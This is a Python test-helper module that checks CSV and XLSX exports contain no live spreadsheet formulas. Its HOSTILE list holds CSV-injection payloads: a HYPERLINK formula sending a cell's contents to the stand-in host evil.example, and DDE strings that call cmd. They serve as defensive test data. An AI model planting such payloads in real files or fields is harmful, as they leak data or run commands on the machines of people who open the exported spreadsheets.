"""Hostile names and the checks that an exported file holds no live formula (issue 19, section 5)."""

import csv
import io
import re
import zipfile
from decimal import Decimal, InvalidOperation

import openpyxl

# What an attacker types as a person's, unit's, organisation's or venue's name (OWASP "CSV injection"); the
# last two start with a tab and a carriage return, which the name rule refuses now but older rows may hold.
HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
_LIVE = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_TAG = re.compile(rb"<f[ >]")


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def assert_csv_inert(content: bytes, *names: str) -> list[list[str]]:
    """No cell a spreadsheet would run (a number, or a tab before digits, is inert); each of ``names`` is there,
    behind a quote."""
    rows = csv_cells(content)
    for row in rows:
        for cell in row:
            if cell.startswith(_LIVE):
                assert _is_number(cell) or cell.lstrip("\t").isdigit(), f"live cell in the CSV: {cell!r}"
    cells = {cell for row in rows for cell in row}
    for name in names:
        assert "'" + name in cells, f"{name!r} is not in the CSV as text"
    return rows


def assert_xlsx_inert(content: bytes, *names: str) -> list[list]:
    """No formula anywhere in the workbook; each of ``names`` is there as a text cell. Returns every sheet's
    values, row by row."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert not _FORMULA_TAG.search(archive.read(member)), f"a formula in {member}"
    book = openpyxl.load_workbook(io.BytesIO(content))
    rows, text = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            rows.append([cell.value for cell in row])
            # a carriage return is stored as Excel's escape _x000D_, which openpyxl leaves as it is
            text |= {cell.value.replace("_x000D_", "\r") for cell in row if cell.data_type == "s"}
    for name in names:
        assert name in text, f"{name!r} is not in the workbook as text"
    return rows
